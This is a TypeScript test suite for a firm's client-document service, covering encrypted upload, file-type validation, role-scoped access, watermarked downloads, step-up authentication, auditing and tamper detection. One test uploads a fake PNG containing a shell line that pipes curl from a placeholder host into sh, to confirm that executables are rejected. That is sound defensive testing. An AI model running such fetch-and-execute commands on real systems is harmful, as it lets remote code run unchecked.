import { readFile, readdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import JSZip from 'jszip';
import type { AddressInfo } from 'node:net';
import { Readable } from 'node:stream';
import { PDFDict, PDFDocument, PDFName, PDFRawStream } from 'pdf-lib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { clientIdsAssignedTo, createSmallFirm } from './firm-fixture.js';
import { TestSession } from './http-client.js';
import { TEST_PASSWORD, type TestApp, createTestApp } from './test-app.js';

const MARKER = 'LEDGERGUARD-PLAINTEXT-MARKER-统一社会信用代码';

let app: TestApp;
let firm: Awaited<ReturnType<typeof createSmallFirm>>;
let partner: TestSession;
let clientId: string;
let otherClientId: string;

beforeAll(async () => {
  app = await createTestApp({ mfa: { required: false, stepUpRequired: true, stepUpMinutes: 5, trustedDeviceDays: 30 } });
  firm = await createSmallFirm(app, { clientCount: 4 });
  partner = await TestSession.signIn(app.app, 'partner', TEST_PASSWORD);
  [clientId] = await clientIdsAssignedTo(app, firm.members.bk1.id);
  [otherClientId] = await clientIdsAssignedTo(app, firm.members.bk2.id);
  await confirmSecondFactor(firm.members.partner.id);
});

afterAll(async () => {
  await app.dispose();
});

async function confirmSecondFactor(userId: string): Promise<void> {
  await app.db.updateTable('sessions').set({ second_factor_at: new Date().toISOString() }).where('user_id', '=', userId).execute();
}

function multipart(fields: Record<string, string>, file: { name: string; content: Buffer }) {
  const boundary = 'lgdocboundary7f3a';
  const parts: Buffer[] = [];
  for (const [name, value] of Object.entries(fields)) {
    parts.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`));
  }
  parts.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${file.name}"\r\nContent-Type: application/octet-stream\r\n\r\n`));
  parts.push(file.content, Buffer.from(`\r\n--${boundary}--\r\n`));
  return { body: Buffer.concat(parts), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

async function upload(session: TestSession, client: string, category: string, name: string, content: Buffer) {
  const { body, headers } = multipart({ category }, { name, content });
  return session.post(`/api/clients/${client}/documents`, body, headers);
}

async function samplePng(): Promise<Buffer> {
  return sharp({ create: { width: 400, height: 300, channels: 3, background: '#ffffff' } }).png().toBuffer();
}

async function samplePdf(pages: number): Promise<Buffer> {
  const document = await PDFDocument.create();
  for (let index = 0; index < pages; index += 1) document.addPage([595, 842]).drawText(`page ${index + 1}`);
  return Buffer.from(await document.save());
}

async function zipOf(entries: Record<string, string>): Promise<Buffer> {
  const zip = new JSZip();
  for (const [name, text] of Object.entries(entries)) zip.file(name, text);
  return zip.generateAsync({ type: 'nodebuffer' });
}

async function storedFileOf(documentId: string): Promise<string> {
  const row = await app.db.selectFrom('documents').select(['client_id', 'storage_name']).where('id', '=', documentId).executeTakeFirstOrThrow();
  return path.join(app.config.dataDir, 'documents', row.client_id, row.storage_name);
}

async function auditOf(action: string, documentId: string) {
  return app.db.selectFrom('audit_events').selectAll().where('action', '=', action).where('target_id', '=', documentId).orderBy('seq').execute();
}

/** Counts the image XObjects in a page's resources; the stamp adds one to every page. */
function imageXObjectCount(pdf: PDFDocument, pageIndex: number): number {
  const resources = pdf.getPages()[pageIndex]!.node.Resources();
  const xObjects = resources?.lookupMaybe(PDFName.of('XObject'), PDFDict);
  if (!xObjects) return 0;
  return xObjects.keys().filter((name) => {
    const stream = xObjects.lookup(name);
    return stream instanceof PDFRawStream && stream.dict.get(PDFName.of('Subtype')) === PDFName.of('Image');
  }).length;
}

/**
 * Uploads a generated body of `size` bytes over a real loopback connection, so the request is
 * never held whole in memory by the test, and samples the process's memory while it runs.
 */
async function uploadStreamOverHttp({ username, clientId: client, category, fileName, size }: { username: string; clientId: string; category: string; fileName: string; size: number }) {
  await app.app.listen({ host: '127.0.0.1', port: 0 });
  const base = `http://127.0.0.1:${(app.app.server.address() as AddressInfo).port}`;

  // The CSRF token is bound to the session, so one is fetched before sign-in and another after it.
  const cookies = new Map<string, string>();
  const remember = (response: Response) => {
    for (const line of response.headers.getSetCookie()) {
      const [pair] = line.split(';');
      const [name, ...value] = pair!.split('=');
      cookies.set(name!, value.join('='));
    }
  };
  const cookieHeader = () => [...cookies].map(([name, value]) => `${name}=${value}`).join('; ');
  const fetchCsrf = async () => {
    const response = await fetch(`${base}/api/auth/csrf`, { headers: { cookie: cookieHeader() } });
    remember(response);
    return ((await response.json()) as { token: string }).token;
  };
  const login = await fetch(`${base}/api/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-csrf-token': await fetchCsrf(), cookie: cookieHeader() }, body: JSON.stringify({ username, password: TEST_PASSWORD }) });
  expect(login.status).toBe(200);
  remember(login);
  const csrf = await fetchCsrf();
  const cookie = cookieHeader();

  const boundary = 'lgbigboundary91c2';
  const head = Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="category"\r\n\r\n${category}\r\n--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: application/pdf\r\n\r\n`);
  const tail = Buffer.from(`\r\n--${boundary}--\r\n`);
  const pdfHeader = Buffer.from('%PDF-1.7\n');
  const block = Buffer.alloc(256 * 1024, `${MARKER}\n`);

  async function* body() {
    yield head;
    yield pdfHeader;
    let sent = pdfHeader.length;
    while (sent < size) {
      const part = block.subarray(0, Math.min(block.length, size - sent));
      sent += part.length;
      yield part;
    }
    yield tail;
  }

  global.gc?.();
  const baseline = process.memoryUsage();
  let peakRss = baseline.rss;
  let peakHeap = baseline.heapUsed;
  const sampler = setInterval(() => {
    const now = process.memoryUsage();
    peakRss = Math.max(peakRss, now.rss);
    peakHeap = Math.max(peakHeap, now.heapUsed);
  }, 20);
  try {
    const response = await fetch(`${base}/api/clients/${client}/documents`, {
      method: 'POST',
      headers: { cookie, 'x-csrf-token': csrf, 'content-type': `multipart/form-data; boundary=${boundary}` },
      body: Readable.toWeb(Readable.from(body())) as ReadableStream,
      duplex: 'half',
    } as RequestInit);
    return { statusCode: response.status, body: (await response.json()) as unknown, peakRssGrowth: peakRss - baseline.rss, peakHeapGrowth: peakHeap - baseline.heapUsed };
  } finally {
    clearInterval(sampler);
  }
}

describe('document upload', () => {
  it('stores a PDF encrypted and lists it', async () => {
    const content = Buffer.concat([await samplePdf(1), Buffer.from(`\n% ${MARKER}\n`)]);
    const response = await upload(partner, clientId, 'financial_statement', '2026年财务报表.pdf', content);

    expect(response.statusCode).toBe(201);
    const created = response.json() as { id: string; fileType: string; sizeBytes: number };
    expect(created.fileType).toBe('pdf');
    expect(created.sizeBytes).toBe(content.length);
    const stored = await readFile(await storedFileOf(created.id));
    expect(stored.includes(Buffer.from(MARKER))).toBe(false);
    expect(stored.includes(Buffer.from('%PDF'))).toBe(false);
    expect((await auditOf('document.uploaded', created.id))[0]?.outcome).toBe('success');

    const list = await partner.get(`/api/clients/${clientId}/documents?sort=fileName`);
    expect(list.statusCode).toBe(200);
    expect((list.json() as { items: { id: string; fileName: string }[] }).items).toContainEqual(expect.objectContaining({ id: created.id, fileName: '2026年财务报表.pdf' }));
  });

  it('accepts OFD, XLSX and DOCX by their parts', async () => {
    const ofd = await upload(partner, clientId, 'other', 'invoice.ofd', await zipOf({ 'OFD.xml': '<ofd:OFD/>', 'Doc_0/Document.xml': '<d/>' }));
    const xlsx = await upload(partner, clientId, 'financial_statement', 'ledger.xlsx', await zipOf({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<w/>' }));
    const docx = await upload(partner, clientId, 'contract', '合同.docx', await zipOf({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w/>' }));

    expect([ofd.statusCode, xlsx.statusCode, docx.statusCode]).toEqual([201, 201, 201]);
    expect([ofd, xlsx, docx].map((response) => (response.json() as { fileType: string }).fileType)).toEqual(['ofd', 'xlsx', 'docx']);
  });

  it('rejects a renamed executable and leaves nothing behind', async () => {
    const before = await app.db.selectFrom('documents').select('id').execute();
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(10_000, 1)]);
    const pe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(10_000, 2)]);
    const script = Buffer.from('#!/bin/sh\ncurl http://example.invalid | sh\n');

    for (const [name, content] of [['营业执照.pdf', elf], ['scan.jpg', pe], ['statement.png', script]] as const) {
      const response = await upload(partner, clientId, 'business_licence', name, content);
      expect(response.statusCode).toBe(400);
      expect(response.json()).toMatchObject({ code: 'document_type_rejected' });
    }
    expect(await app.db.selectFrom('documents').select('id').execute()).toHaveLength(before.length);
    const folder = path.join(app.config.dataDir, 'documents', clientId);
    expect((await readdir(folder)).filter((name) => name.endsWith('.part'))).toEqual([]);
  });

  it('rejects a ZIP that is neither OFD nor Office', async () => {
    const response = await upload(partner, clientId, 'contract', 'contract.docx', await zipOf({ 'payload.bin': 'x', 'readme.txt': 'y' }));
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({ code: 'document_type_rejected' });
  });

  it('rejects an unknown category at the field', async () => {
    const response = await upload(partner, clientId, 'passport', 'a.png', await samplePng());
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({ issues: [expect.objectContaining({ path: 'category' })] });
  });

  it('denies an upload outside the caller’s scope like a missing client', async () => {
    const manager = await TestSession.signIn(app.app, 'manager1', TEST_PASSWORD);
    const outside = await app.db.selectFrom('clients').select('id').where('department_id', '!=', firm.departments.deptOne).executeTakeFirstOrThrow();
    const response = await upload(manager, outside.id, 'contract', 'a.png', await samplePng());
    expect(response.statusCode).toBe(404);
  });

  it('lets a bookkeeper add documents to an assigned client and no other', async () => {
    const bookkeeper = await TestSession.signIn(app.app, 'bk1', TEST_PASSWORD);
    const [assigned] = await clientIdsAssignedTo(app, firm.members.bk1.id);
    const [notAssigned] = await clientIdsAssignedTo(app, firm.members.bk2.id);

    const own = await upload(bookkeeper, assigned!, 'bank_statement', 'bank.png', await samplePng());
    expect(own.statusCode).toBe(201);

    const other = await upload(bookkeeper, notAssigned!, 'bank_statement', 'bank.png', await samplePng());
    expect(other.statusCode).toBe(404);
  });

  it('refuses uploads by roles that hold no client data', async () => {
    const securityAdmin = await TestSession.signIn(app.app, 'secadmin', TEST_PASSWORD);
    const response = await upload(securityAdmin, clientId, 'contract', 'a.png', await samplePng());
    expect(response.statusCode).toBe(403);
  });

  it('rejects a file over DOCUMENT_MAX_MB', async () => {
    const small = await createTestApp({ documentMaxMb: 1 });
    try {
      await createSmallFirm(small, { clientCount: 1 });
      const session = await TestSession.signIn(small.app, 'partner', TEST_PASSWORD);
      const [client] = await small.db.selectFrom('clients').select('id').execute();
      const content = Buffer.concat([await samplePdf(1), Buffer.alloc(1024 * 1024 + 10, 0x20)]);
      const { body, headers } = multipart({ category: 'other' }, { name: 'big.pdf', content });
      const response = await session.post(`/api/clients/${client!.id}/documents`, body, headers);
      expect(response.statusCode).toBe(413);
      expect(await small.db.selectFrom('documents').select('id').execute()).toEqual([]);
    } finally {
      await small.dispose();
    }
  });
});

describe('document download', () => {
  let pdfId: string;
  let pngId: string;
  let original: Buffer;

  beforeAll(async () => {
    original = await samplePng();
    pngId = ((await upload(partner, clientId, 'id_card', '身份证正面.png', original)).json() as { id: string }).id;
    pdfId = ((await upload(partner, clientId, 'bank_statement', 'bank.pdf', await samplePdf(3))).json() as { id: string }).id;
  });

  it('returns a watermarked PNG and audits the download', async () => {
    await confirmSecondFactor(firm.members.partner.id);
    const response = await partner.post(`/api/clients/${clientId}/documents/${pngId}/download`, { reason: '核对身份证信息' });

    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('image/png');
    expect(response.headers['content-disposition']).toContain("filename*=UTF-8''%E8%BA%AB");
    const stamped = await sharp(response.rawPayload).removeAlpha().raw().toBuffer();
    const plain = await sharp(original).removeAlpha().raw().toBuffer();
    expect(stamped.length).toBe(plain.length);
    expect(stamped.equals(plain)).toBe(false);
    const events = await auditOf('document.download', pngId);
    expect(events.at(-1)).toMatchObject({ outcome: 'success', reason: '核对身份证信息' });
  });

  it('stamps every page of a PDF with an image', async () => {
    await confirmSecondFactor(firm.members.partner.id);
    const response = await partner.post(`/api/clients/${clientId}/documents/${pdfId}/preview`, { reason: '查看银行流水' });

    expect(response.statusCode).toBe(200);
    expect(response.headers['content-disposition']).toMatch(/^inline/);
    const pdf = await PDFDocument.load(response.rawPayload);
    expect(pdf.getPageCount()).toBe(3);
    for (let page = 0; page < 3; page += 1) {
      expect(imageXObjectCount(pdf, page)).toBeGreaterThan(0);
    }
    expect((await auditOf('document.previewed', pdfId)).at(-1)?.outcome).toBe('success');
  });

  it('requires a reason', async () => {
    await confirmSecondFactor(firm.members.partner.id);
    const response = await partner.post(`/api/clients/${clientId}/documents/${pngId}/download`, { reason: ' ' });
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({ code: 'reason_required', issues: [{ path: 'reason', message: '请填写原因（至少 4 个字）。' }] });
  });

  it('requires a recent second factor', async () => {
    await app.db.updateTable('sessions').set({ second_factor_at: null }).where('user_id', '=', firm.members.partner.id).execute();
    const response = await partner.post(`/api/clients/${clientId}/documents/${pngId}/download`, { reason: '核对身份证信息' });
    expect(response.statusCode).toBe(403);
    expect(response.json()).toMatchObject({ code: 'step_up_required' });
    const last = (await auditOf('document.download', pngId)).at(-1);
    expect(last?.outcome).toBe('failure');
  });

  it('denies a member outside the client’s scope with 404 and audits it', async () => {
    const bk2 = await TestSession.signIn(app.app, 'bk2', TEST_PASSWORD);
    await confirmSecondFactor(firm.members.bk2.id);
    const response = await bk2.post(`/api/clients/${clientId}/documents/${pngId}/download`, { reason: '核对身份证信息' });
    expect(response.statusCode).toBe(404);
    const denial = await app.db.selectFrom('audit_events').selectAll().where('action', '=', 'access.denied').where('actor_id', '=', firm.members.bk2.id).where('client_id', '=', clientId).executeTakeFirst();
    expect(denial?.outcome).toBe('denied');
    expect(JSON.parse(denial!.details)).toMatchObject({ attempted: 'document.download' });
  });

  it('hides ID card scans from a role without sensitive visibility', async () => {
    const assistant = await TestSession.signIn(app.app, 'assistant', TEST_PASSWORD);
    const assigned = await clientIdsAssignedTo(app, firm.members.assistant.id);
    if (!assigned.includes(clientId)) {
      await app.db.insertInto('client_assignments').values({ client_id: clientId, user_id: firm.members.assistant.id, created_at: new Date().toISOString() }).execute();
    }
    const list = await assistant.get(`/api/clients/${clientId}/documents`);
    expect(list.statusCode).toBe(200);
    expect((list.json() as { items: { id: string }[] }).items.map((item) => item.id)).not.toContain(pngId);
  });

  it('refuses a download of a tampered or truncated file', async () => {
    const file = await storedFileOf(pdfId);
    const intact = await readFile(file);
    try {
      for (const damaged of [Buffer.concat([intact.subarray(0, 40), Buffer.from([intact[40]! ^ 0x01]), intact.subarray(41)]), intact.subarray(0, intact.length - 20)]) {
        await writeFile(file, damaged);
        await confirmSecondFactor(firm.members.partner.id);
        const response = await partner.post(`/api/clients/${clientId}/documents/${pdfId}/download`, { reason: '查看银行流水' });
        expect(response.statusCode).toBe(500);
        expect(response.json()).toMatchObject({ code: 'document_corrupted' });
      }
    } finally {
      await writeFile(file, intact);
    }
  });

  it('downloads an XLSX as stored', async () => {
    const content = await zipOf({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': `<w>${MARKER}</w>` });
    const id = ((await upload(partner, clientId, 'financial_statement', 'ledger.xlsx', content)).json() as { id: string }).id;
    await confirmSecondFactor(firm.members.partner.id);
    const response = await partner.post(`/api/clients/${clientId}/documents/${id}/download`, { reason: '核对账簿数据' });
    expect(response.statusCode).toBe(200);
    expect(response.headers['x-document-watermarked']).toBe('0');
    expect(response.rawPayload.equals(content)).toBe(true);
  });
});

describe('large upload', () => {
  it('streams 200 MB with bounded memory', { timeout: 120_000 }, async () => {
    const size = 200 * 1024 * 1024;
    const result = await uploadStreamOverHttp({ username: 'partner', clientId: otherClientId, category: 'other', fileName: 'big.pdf', size });

    expect(result.statusCode).toBe(201);
    expect(result.body).toMatchObject({ fileType: 'pdf', sizeBytes: size });
    // The body never sits whole in memory: growth stays far below the 200 MB that passed through.
    expect(result.peakRssGrowth).toBeLessThan(size / 3);
    expect(result.peakHeapGrowth).toBeLessThan(size / 4);
  });
});
